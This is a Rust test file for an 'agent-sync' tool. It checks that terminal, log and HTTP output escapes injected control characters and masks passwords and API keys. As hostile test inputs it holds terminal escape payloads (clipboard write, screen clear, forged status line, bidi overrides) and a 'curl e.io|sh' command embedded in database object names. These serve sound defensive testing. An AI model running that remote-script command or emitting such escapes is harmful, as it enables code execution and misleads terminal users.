//! Output: no value of a row, a file or the network can disturb a terminal, a log or an HTTP client
//! (S10).

use std::fs;
use std::io::{Read as _, Write as _};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::Value;

use crate::support::platform::EXAMPLE;
use crate::support::{Daemon, Platform, Said, eventually, http};

/// A key that writes the clipboard, clears the screen, forges a line and changes the writing
/// direction.
const KEY: &str =
    "k\u{1b}]52;c;eA==\u{7}\u{1b}[2J\nALL AGENTS IN SYNC\u{9b}2J\u{202e}\u{200e}\u{61c}\u{2028}";

/// The sanitized form of [`KEY`].
const SEEN: &str =
    r"k\u001b]52;c;eA==\u0007\u001b[2J\u000aALL AGENTS IN SYNC\u009b2J\u202e\u200e\u061c\u2028";

/// Whether a character disturbs a terminal. Line feeds between lines do not.
fn disturbs(c: char) -> bool {
    c != '\n' && c.is_control()
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The text without colour sequences, which only a terminal gets.
fn without_colours(text: &str) -> String {
    let mut pieces = text.split("\u{1b}[");
    let mut out = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        match piece.split_once('m') {
            Some((code, rest)) if code.bytes().all(|b| b.is_ascii_digit() || b == b';') => {
                out.push_str(rest);
            }
            _ => out.extend(["\u{1b}[", piece]),
        }
    }
    out
}

fn is_clean(what: &str, text: &str) {
    let found = without_colours(text).chars().find(|c| disturbs(*c));
    assert!(
        found.is_none(),
        "{what} tells {:?}: {text:?}",
        found.unwrap()
    );
    let forged = text
        .lines()
        .find(|line| line.starts_with("ALL AGENTS IN SYNC"));
    assert!(forged.is_none(), "{what} has a forged line: {text}");
}

/// A platform with an agent whose slug, name, settings and configuration contain such keys and
/// values.
async fn hostile() -> Platform {
    let platform = Platform::installed().await;
    let mut settings: Value = serde_json::from_str(EXAMPLE).unwrap();
    settings[KEY] = Value::from(1);
    settings["model"] = Value::from(KEY);
    platform.save("plain", &settings.to_string()).await;
    platform
        .save(KEY, r#"{"provider": "\u001b[2J\u009b\u202e"}"#)
        .await;
    platform.save("no-configuration\u{202e}", "{}").await;
    let sql = "INSERT INTO agent_configurations (agent_slug, provider_config, voice_settings)
        SELECT slug, jsonb_build_object('tts', jsonb_build_object($1::text, 1), $1::text, 2),
          jsonb_build_object($1::text, 3)
        FROM agents WHERE slug NOT LIKE 'no%'";
    platform.client.execute(sql, &[&KEY]).await.unwrap();
    platform
}

/// Keys and names from rows are never printed raw.
#[tokio::test]
async fn s10_keys_and_names_from_rows_are_never_shown_raw() {
    let platform = hostile().await;
    for arguments in [
        &["check"][..],
        &["check", "--json"],
        &["check", KEY, "unknown\u{9b}\u{1b}[2J"],
        &["why", "plain"],
        &["why", "plain", "--json"],
        &["why", KEY],
        &["why", "unknown\u{9b}\u{1b}[2J\u{202e}"],
        &["reconcile", "--all", "--dry-run"],
        &["reconcile", "--all", "--dry-run", "--json"],
        &["status"],
        &["status", "--json"],
        &["doctor"],
        &["reconcile", "--all", "--yes"],
        &["status"],
    ] {
        for colours in [false, true] {
            let mut command = platform.command(arguments);
            if colours {
                command.env("CLICOLOR_FORCE", "1");
            }
            let said = Said::of(command).await;
            is_clean(&format!("{arguments:?}"), &said.out);
            is_clean(&format!("{arguments:?}"), &said.err);
            assert!(colours || !said.out.contains('\u{1b}'), "{arguments:?}");
        }
    }
    // The reader sees the escaped character, and a program gets the original text.
    platform
        .run("UPDATE agent_configurations SET voice_settings = NULL")
        .await;
    let said = platform.says(&["check", "plain"]).await;
    assert!(said.out.contains(SEEN), "{}", said.out);
    let object = platform
        .says(&["check", "plain", "--json"])
        .await
        .objects()
        .remove(0);
    let differences = object["differing"][0]["differences"]
        .as_array()
        .unwrap()
        .clone();
    let path = Value::from(format!("voice_settings.{KEY}"));
    assert!(
        differences.iter().any(|one| one["path"] == path),
        "{object}"
    );
}

#[tokio::test]
async fn s10_the_log_and_http_hold_nothing_that_disturbs() {
    let platform = hostile().await;
    let folder = tempfile::tempdir().unwrap();
    for format in ["json", "pretty"] {
        let file = folder.path().join(format);
        // Each of the two formats logs the problems as new.
        platform
            .run("DELETE FROM agent_sync.problem; UPDATE agents SET name = name || ' again'")
            .await;
        let mut command = http::command(&platform);
        command
            .env("AGENT_SYNC__LOG__FORMAT", format)
            .env("AGENT_SYNC__LOG__LEVEL", "debug");
        let log = || fs::read_to_string(&file).unwrap();
        let mut child = command
            .stdin(Stdio::null())
            .stderr(fs::File::create(&file).unwrap())
            .spawn()
            .unwrap();
        eventually("the daemon has caught up", async || {
            log().contains("caught up")
        })
        .await;
        eventually("it serves", async || log().contains("serving /livez")).await;
        let at = log()
            .lines()
            .find(|line| line.contains("serving /livez"))
            .unwrap()
            .to_owned();
        let at = at.split("127.0.0.1:").nth(1).unwrap();
        let port: String = at.chars().take_while(char::is_ascii_digit).collect();
        let address = format!("127.0.0.1:{port}").parse().unwrap();
        for path in ["/readyz", "/status", "/metrics", "/livez"] {
            is_clean(path, &http::get(address, path).await.1);
        }
        // A program gets the original text.
        eventually("the problem is listed", async || {
            let status: Value =
                serde_json::from_str(&http::get(address, "/status").await.1).unwrap();
            status.to_string().contains("no-configuration\u{202e}")
        })
        .await;
        is_clean("/status", &http::get(address, "/status").await.1);
        child.kill().unwrap();
        child.wait().unwrap();
        is_clean(format, &log());
        assert!(log().contains("no-configuration"), "{}", log());
    }
}

/// GIVEN names and texts of others with a command between backticks, WHEN the daemon and the
/// commands show them, THEN no part of them is between backticks, which mark a command that the
/// pages make copyable; and the commands of agent-sync are.
#[tokio::test]
async fn s10_a_backtick_of_another_marks_no_command() {
    let platform = Platform::installed().await;
    platform.save("a", EXAMPLE).await;
    platform.configure("a").await;
    platform
        .run(
            r#"ALTER TABLE agent_configurations ADD CONSTRAINT "x `curl e.io|sh` y"
                 CHECK (agent_name IS NULL);
               CREATE FUNCTION nop() RETURNS trigger LANGUAGE plpgsql AS
                 $$ BEGIN RETURN new; END $$;
               CREATE TRIGGER "t `curl e.io|sh` y" BEFORE UPDATE ON agents
                 FOR EACH ROW EXECUTE FUNCTION nop()"#,
        )
        .await;
    // The trigger keeps it from being ready.
    let daemon = Daemon::start(http::command(&platform));
    let address = http::address(&daemon).await;
    let served = async || http::get(address, "/status").await.1;
    eventually("the write has failed", async || {
        served().await.contains("forbids it")
    })
    .await;
    let mut shown = vec![served().await];
    shown.push(platform.says(&["why", "a"]).await.out);
    shown.push(platform.says(&["doctor"]).await.out);
    platform
        .run(
            "UPDATE agent_sync.install SET paused_since = now(), paused_by = 'o `curl e.io|sh` p',
               pause_reason = 'To end it: `curl e.io|sh`'",
        )
        .await;
    eventually("the pause is served", async || {
        served().await.contains("To end it")
    })
    .await;
    shown.push(served().await);
    shown.push(platform.says(&["status"]).await.out);
    for text in &shown {
        // JSON escapes the backslash.
        let plain = text.replace(r"\\", r"\");
        assert!(plain.contains(r"\u0060curl"), "{text}");
        assert!(!plain.contains("`curl"), "{text}");
    }
    assert!(shown[4].contains("`agent-sync resume`"), "{}", shown[4]);
    // The rule is created last, because it stops the daemon.
    platform
        .run(
            r#"UPDATE agent_sync.install SET paused_since = NULL, paused_by = NULL,
                 pause_reason = NULL;
               CREATE RULE "r `curl e.io|sh` y" AS ON UPDATE TO agent_configurations
                 DO ALSO NOTHING"#,
        )
        .await;
    let said = platform.says(&["doctor"]).await;
    assert!(said.out.contains(r"r \u0060curl"), "{said:?}");
    assert!(!said.out.contains("`curl"), "{said:?}");
}

/// GIVEN agents whose slug, name, settings and configuration contain a connection string with a
/// password, WHEN it is printed, logged or served, THEN the password is masked.
#[tokio::test]
async fn g11_a_password_in_a_row_is_masked_everywhere() {
    const URL: &str = "postgres://app:hunter2@db.example.com/platform";
    let platform = Platform::installed().await;
    let settings = serde_json::json!({ "provider": URL, "voice_id": URL, URL: URL }).to_string();
    platform.save(URL, &settings).await;
    platform.save("known", &settings).await;
    platform
        .save(
            "rejected",
            r#"{"temperature": "postgres://app:hunter2@db"}"#,
        )
        .await;
    platform
        .run(
            "INSERT INTO agent_configurations (agent_slug, provider_config, voice_id)
             SELECT s, '{\"tts\": {\"provider\": \"postgres://app:hunter2@old\"}}',
               'postgres://app:hunter2@old' FROM unnest(ARRAY['known', 'rejected']) s",
        )
        .await;
    let drifted = platform.says(&["check", "--json", "known"]).await;
    assert!(
        drifted.out.contains("app:********@") && !drifted.out.contains("hunter2"),
        "{drifted:?}"
    );
    let daemon = Daemon::start(http::command(&platform));
    daemon.logged("caught up").await;
    platform
        .holds("SELECT count(*) = 2 FROM agent_sync.problem")
        .await;
    let log = format!("{:?}", daemon.log());
    assert!(log.contains("app:********@"), "{log}");
    assert!(!log.contains("hunter2"), "{log}");
    for arguments in [
        &["check"][..],
        &["check", "--json"],
        &["why", "known"],
        &["why", "known", "--json"],
        &["why", "rejected"],
        &["status"],
        &["status", "--json"],
        &["doctor"],
        &["reconcile", "--all", "--dry-run"],
    ] {
        let said = platform.says(arguments).await;
        assert!(
            !format!("{said:?}").contains("hunter2"),
            "{arguments:?}: {said:?}"
        );
    }
    let address = http::address(&daemon).await;
    for path in ["/readyz", "/status", "/metrics"] {
        let body = http::get(address, path).await.1;
        assert!(!body.contains("hunter2"), "{path}: {body}");
    }
    // `render` prints its own input unchanged.
    let input = serde_json::json!({
        "agent": { "slug": "a", "voice_settings": settings },
        "configuration": { "agent_slug": "a" },
    });
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), input.to_string()).unwrap();
    let mut command = std::process::Command::new("/bin/sh");
    command
        .env_clear()
        .args([
            "-c",
            "exec \"$0\" render <\"$1\"",
            env!("CARGO_BIN_EXE_agent-sync"),
        ])
        .arg(file.path());
    let said = Said::of(command).await;
    assert!(said.out.contains(URL), "{said:?}");
}

#[tokio::test]
async fn s10_probe_cleans_whatever_answers_on_the_port() {
    for status in ["200 OK", "503 Service Unavailable"] {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let answer =
            format!("HTTP/1.0 {status}\r\n\r\nok\u{1b}[2J\u{9b}\u{202e}\u{1b}]52;c;eA==\u{7}\n");
        let server = std::thread::spawn(move || {
            let (mut stream, _) = listener.accept().unwrap();
            let _ = stream.read(&mut [0; 1024]);
            stream.write_all(answer.as_bytes()).unwrap();
        });
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_agent-sync"));
        command
            .env_clear()
            .args(["probe", "ready", "--listen", &address]);
        let said = Said::of(command).await;
        server.join().unwrap();
        let text = format!("{}{}", said.out, said.err);
        is_clean(status, &text);
        assert!(
            text.contains(r"ok\u001b[2J\u009b\u202e\u001b]52;c;eA==\u0007"),
            "{text}"
        );
    }
}

/// A connection string as a slug or a name is withheld in every output.
#[tokio::test]
async fn s15_a_connection_string_as_a_slug_or_name_is_withheld() {
    let platform = Platform::installed().await;
    for text in [
        "postgres://app:hunter2@db.example.com/platform",
        "host=db.example.com password=hunter2",
    ] {
        for arguments in [
            &["check", text][..],
            &["check", "--json", text],
            &["check", "--database", text],
            &["why", text],
            &["why", "--json", text],
            &["reconcile", "--yes", text],
            &["reconcile", "--json", text],
            &["reconcile", "--dry-run", text],
            &["status", "--database", text],
            &["doctor", text],
            &["install", "--role", text],
            &["install", text],
            &["uninstall", "--yes", "--database", text],
            &["run", "--database", text],
            &["render", text],
            &["config", text],
            &["completions", text],
            &["probe", text],
        ] {
            let said = platform.says(arguments).await;
            assert_ne!(said.code, 0, "{arguments:?}");
            assert!(!format!("{said:?}").contains("hunter2"), "{said:?}");
            assert!(
                format!("{said:?}").contains("(not shown)"),
                "{arguments:?}: {said:?}"
            );
        }
    }
}

/// Every source file below a directory.
fn sources(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path());
    entries
        .flat_map(|path| {
            if path.is_dir() {
                sources(&path)
            } else {
                vec![path]
            }
        })
        .filter(|path| path.extension().is_some_and(|extension| extension == "rs"))
        .collect()
}

#[test]
fn s10_nothing_is_written_but_by_those_that_take_clean_text() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let may = [
        "exit.rs",
        "main.rs",
        "observe/log.rs",
        "commands/output.rs",
        "commands/page.rs",
    ];
    for path in sources(&folder) {
        let name = path
            .strip_prefix(&folder)
            .unwrap()
            .to_str()
            .unwrap()
            .to_owned();
        if may.contains(&&*name) {
            continue;
        }
        for line in fs::read_to_string(&path).unwrap().lines() {
            let writes = [
                "print!(",
                "println!(",
                "dbg!(",
                "writeln!(std::io::std",
                "writeln!(io::std",
                "write_all(",
            ];
            let to = ["stdout()", "stderr()", "print!(", "println!(", "dbg!("];
            let both = writes.iter().any(|way| line.contains(way))
                && to.iter().any(|way| line.contains(way));
            assert!(!both, "{name} writes past `Clean`: {line}");
        }
    }
}

/// No error of the platform's expressions contains a value of a row.
#[tokio::test]
async fn s13_no_platform_expression_puts_a_value_into_a_failure() {
    const SECRET: &str = "sk-secret-openai";
    for (expression, sqlstate) in [
        ("openai_api_key::regconfig::oid > 0", "42704"),
        ("openai_api_key::regtype::oid > 0", "42601"),
        ("openai_api_key::regrole::oid > 0", "42704"),
        ("current_setting(openai_api_key) > ''", "42704"),
        (
            "to_tsvector(openai_api_key::regconfig, agent_name) IS NOT NULL",
            "42704",
        ),
        ("openai_api_key::regclass::oid > 0", "42P01"),
        ("has_table_privilege(openai_api_key, 'SELECT')", "42P01"),
        (
            "(openai_api_key || '(int)')::regprocedure::oid > 0",
            "42883",
        ),
        ("openai_api_key::regnamespace::oid > 0", "3F000"),
        ("(openai_api_key || '.b.c.d')::regclass::oid > 0", "42601"),
    ] {
        let platform = Platform::installed().await;
        platform.save("a", EXAMPLE).await;
        platform.configure("a").await;
        platform
            .run(&format!(
                "UPDATE agent_configurations SET openai_api_key = '{SECRET}';
                 ALTER TABLE agent_configurations ADD CONSTRAINT odd CHECK ({expression}) NOT VALID"
            ))
            .await;
        let daemon = Daemon::start(http::command(&platform));
        let address = http::address(&daemon).await;
        platform
            .holds("SELECT count(*) = 1 FROM agent_sync.problem WHERE kind = 'failed'")
            .await;
        let (_, detail) = platform.problem("a").await.unwrap();
        assert!(!detail.contains(SECRET), "{expression}: {detail}");
        if sqlstate == "42704" {
            assert_eq!(
                detail,
                "PostgreSQL refused the write: a statement, or an expression on the tables, names \
                an object that is not there (SQLSTATE 42704)",
                "{expression}"
            );
        }
        for path in ["/readyz", "/status", "/metrics"] {
            let answer = http::get(address, path).await.1;
            assert!(!answer.contains(SECRET), "{expression}: {path}: {answer}");
        }
        for arguments in [
            &["why", "a"][..],
            &["status"],
            &["doctor"],
            &["reconcile", "a"],
        ] {
            let said = platform.says(arguments).await;
            assert!(
                !format!("{said:?}").contains(SECRET),
                "{expression}: {arguments:?}: {said:?}"
            );
        }
        let log = daemon.log();
        assert!(
            log.iter().any(|line| line.to_string().contains(sqlstate)),
            "{expression}: {log:?}"
        );
        assert!(
            !log.iter().any(|line| line.to_string().contains(SECRET)),
            "{expression}: {log:?}"
        );
    }
}

/// A function cannot show a value as the name of a constraint.
#[tokio::test]
async fn s13_a_function_cannot_show_a_value_as_a_constraint_name() {
    let platform = Platform::installed().await;
    platform.save("a", EXAMPLE).await;
    platform.configure("a").await;
    platform
        .run(
            "CREATE FUNCTION public.tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
                 RAISE EXCEPTION 'no' USING ERRCODE = '23514', TABLE = NEW.agent_slug ||
                   'sk-secret', COLUMN = 'sk-secret',
                     CONSTRAINT = 'sk-secret', DATATYPE = 'sk-secret';
             END $$;
             CREATE TRIGGER tell BEFORE UPDATE ON agent_configurations
               FOR EACH ROW EXECUTE FUNCTION public.tell()",
        )
        .await;
    let daemon = platform.daemon();
    let line = daemon.logged("agent could not be brought in sync").await;
    assert!(!line.to_string().contains("sk-secret"), "{line}");
    let (_, detail) = platform.problem("a").await.unwrap();
    assert_eq!(
        detail,
        "PostgreSQL refused the write: raised by a trigger or function (SQLSTATE 23514)"
    );
}

#[tokio::test]
async fn s13_a_failure_names_the_table_and_the_constraint() {
    let platform = Platform::installed().await;
    platform.save("a", EXAMPLE).await;
    platform.configure("a").await;
    platform
        .run("ALTER TABLE agent_configurations ADD CONSTRAINT warm CHECK (agent_name IS NULL)")
        .await;
    let _daemon = platform.caught_up_daemon().await;
    let (_, detail) = platform.problem("a").await.unwrap();
    assert_eq!(
        detail,
        "PostgreSQL refused the write: a check constraint forbids it (SQLSTATE 23514, table \
        agent_configurations, constraint warm)"
    );
}

/// No command shows the error text of a platform expression about a row.
#[tokio::test]
async fn s13_no_command_shows_the_errors_of_platform_expressions() {
    let platform = Platform::new().await;
    let role = format!("daemon_{}", platform.name());
    assert_eq!(platform.says(&["install", "--role", &role]).await.code, 0);
    platform.save("a", EXAMPLE).await;
    platform.configure("a").await;
    platform
        .run(&format!(
            "UPDATE agents SET system_prompt = 'hush-a-secret'; ALTER TABLE agents ENABLE ROW
                  LEVEL SECURITY;
             CREATE POLICY p ON agents USING (current_user <> '{role}'
               OR system_prompt::regclass IS NOT NULL)"
        ))
        .await;
    for arguments in [
        &["check"][..],
        &["why", "a"],
        &["reconcile", "a"],
        &["reconcile", "--all", "--dry-run"],
    ] {
        let said = platform.says_as(&role, arguments).await;
        assert!(
            said.code != 0 && said.err.contains("SQLSTATE"),
            "{arguments:?}: {said:?}"
        );
        assert!(
            !said.err.contains("hush") && !said.out.contains("hush"),
            "{arguments:?}: {said:?}"
        );
    }
}
